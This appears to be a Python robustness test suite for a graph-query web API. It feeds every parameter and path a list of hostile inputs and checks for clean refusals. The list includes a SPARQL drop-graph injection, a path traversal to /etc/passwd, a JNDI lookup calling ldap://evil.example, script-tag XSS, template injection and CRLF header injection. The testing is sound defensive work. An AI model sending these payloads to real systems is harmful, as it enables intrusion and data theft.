"""Whatever stands in whatever parameter: a refusal or a correct answer, never a fault of ours, never an injection."""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from graph.questions import QUESTIONS

HOSTILE = [
    "'; DROP GRAPH <x>; --",
    '" } } SELECT * { ?s ?p ?o } #',
    "> <http://evil.example/> . <a",
    "../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2f",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "\x00",
    "\r\nSet-Cookie: a=b",
    "\u202eevil 𝕒𝕟𝕥𝕙𝕣𝕠𝕡𝕚𝕔",
    "anthropic" * 20,
    "=HYPERLINK(1)",
    "9" * 400,
    "-1",
    "1e999",
    "NaN",
    "0000-00-00",
    "9999-12-31",
    "0001-01-01",
    "true",
    "[]",
    "{}",
]
SEGMENTS = ("entities", "claims", "sources", "conflicts", "flags", "queries", "ontology", "id", "analysis")


@pytest.fixture(scope="module")
def parameters(client: httpx.Client) -> list[tuple[str, str]]:
    """Every address without a path parameter, with each of its query parameters; the slow families are left out."""
    paths: dict[str, Any] = client.get("/openapi.json").json()["paths"]
    slow = ("/analysis/scenario", "/analysis/settling", "/views", "/exports")
    return [
        (path, parameter["name"])
        for path, operations in paths.items()
        if "get" in operations and "{" not in path and not path.startswith(slow)
        for parameter in operations["get"].get("parameters", ())
        if parameter["in"] == "query"
    ]


def check(answer: httpx.Response, hostile: str) -> None:
    assert answer.status_code in {200, 303, 308, 400, 404, 406, 409, 410, 414}, answer.text
    assert "set-cookie" not in answer.headers
    assert "Traceback" not in answer.text
    if answer.status_code >= 400:
        assert answer.headers["content-type"] == "application/problem+json"
    if answer.status_code == 200 and "application/json" in answer.headers["content-type"]:
        answer.json()


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_in_every_parameter(client: httpx.Client, parameters: list[tuple[str, str]], hostile: str) -> None:
    for path, name in parameters:
        needed = {"q": "x"} if path in {"/search", "/suggest"} else {}
        needed |= {"from": "corning", "to": "anthropic"} if path == "/paths" else {}
        check(client.get(path, params=needed | {name: hostile}), hostile)


@pytest.mark.parametrize("hostile", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_text_in_every_path(client: httpx.Client, hostile: str) -> None:
    for segment in SEGMENTS:
        check(client.get(f"/{segment}/{quote(hostile, safe='')}"), hostile)


@pytest.mark.parametrize("hostile", HOSTILE[:14], ids=range(14))
def test_hostile_text_in_every_parameter_of_every_question(client: httpx.Client, hostile: str) -> None:
    for question in QUESTIONS.values():
        for parameter in question.parameters:
            answer = client.get(f"/queries/{question.name}", params={parameter.name: hostile, "sparql": "true"})
            check(answer, hostile)


@settings(max_examples=100)
@given(data=st.data())
def test_any_text_anywhere(client: httpx.Client, parameters: list[tuple[str, str]], data: st.DataObject) -> None:
    path, name = data.draw(st.sampled_from(parameters))
    text = data.draw(st.text(max_size=60))
    encoded = quote(text.encode("utf-8", "surrogatepass"), safe="")
    check(client.get(f"{path}?{name}={encoded}"), text)


@settings(max_examples=40)
@given(text=st.text(max_size=40))
def test_any_name_is_searched_for_as_text(client: httpx.Client, text: str) -> None:
    encoded = quote(text.encode("utf-8", "surrogatepass"), safe="")
    answer = client.get(f"/queries/who?text={encoded}")
    check(answer, text)
    if answer.status_code == 200:
        assert all(0 <= row["score"] <= 100 for row in answer.json()["items"])


@pytest.mark.parametrize("accept", ["*", "text/html;q=x", ",,,;;", "a/b" * 3000, "application/json;q=0", "\x7f"])
def test_any_accept_header_is_read_or_refused(client: httpx.Client, accept: str) -> None:
    answer = client.get("/entities/akamai", headers={"accept": accept})
    assert answer.status_code in {200, 400, 406, 431}


def test_bytes_that_are_no_text_are_refused_or_read(client: httpx.Client) -> None:
    for path in ("/search?q=%ff%fe", "/entities/%c3%28", "/queries/who?text=%80", "/entities?kind=%00"):
        check(client.get(path), path)
